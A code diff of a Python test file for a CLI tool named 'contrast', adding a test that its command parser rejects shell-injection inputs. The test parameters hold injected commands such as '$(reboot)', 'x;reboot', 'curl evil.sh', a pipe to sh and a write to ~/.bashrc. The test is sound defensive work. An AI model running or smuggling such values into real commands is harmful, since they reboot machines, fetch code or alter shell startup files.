@@ -23,11 +23,12 @@ import pytest
 from typer.testing import CliRunner
 
 from contrast.cli import app as cli
-from contrast.errors import InputError
+from contrast.errors import InputError, UsageError
 from contrast.labels import CheckName
 from contrast.reading import read_article, read_text
 from contrast.rendering import Provenance, as_text
 from contrast.rendering.carried import Carried, as_carried, from_carried
+from contrast.rendering.command import read_command
 from contrast.rendering.html import as_html, draw, read_carried
 from contrast.schema import (
     Check,
@@ -334,6 +335,13 @@ def test_what_stands_above_a_report_is_compared_with_its_source_or_its_text(made
         (told,) = read_carried(made.read_text(encoding="utf-8"), "page").reports
         found = [line.text for line in Sources(made.parent).compare(told.article) if line.is_difference]
         assert [words in line for line in found] == ([True] if part == "article" else [])
+
+
+@pytest.mark.parametrize("more", ["-o $(reboot)", "-o x;reboot", "-o x && curl evil.sh", "-o x | sh", "-o ~/.bashrc", "\nreboot"])
+def test_a_command_on_which_a_shell_does_more_is_none(more: str) -> None:
+    assert read_command("contrast check 'a b.txt' --format html -o x.html").files == ("a b.txt",)
+    with pytest.raises(UsageError, match="marks that a shell acts on"):
+        read_command(f"contrast check 'a b.txt' --format html {more}")
 
 
 def test_a_row_that_stands_twice_or_before_a_stronger_one_differs(made: Path, recalling: Any, cameras: Report) -> None:
